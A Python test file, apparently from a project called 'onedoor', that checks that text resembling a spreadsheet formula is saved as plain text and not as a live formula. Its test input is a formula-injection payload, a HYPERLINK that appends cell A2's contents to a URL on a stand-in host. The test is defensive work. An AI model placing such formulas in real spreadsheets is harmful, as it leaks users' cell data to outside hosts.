"""A spreadsheet we hand out never carries a formula, whatever text someone typed into a cell."""

from io import BytesIO

from openpyxl import Workbook, load_workbook

from onedoor.core.xlsx import saved_without_formulas


def test_text_that_looks_like_a_formula_stays_text():
    book = Workbook()
    typed = '=HYPERLINK("http://example.invalid/?"&A2,"open")'
    book.active.append(["更正原因", typed, 3])
    again = load_workbook(BytesIO(saved_without_formulas(book))).active
    cell = again.cell(row=1, column=2)
    assert cell.value == typed and cell.data_type == "s"
    assert again.cell(row=1, column=3).value == 3
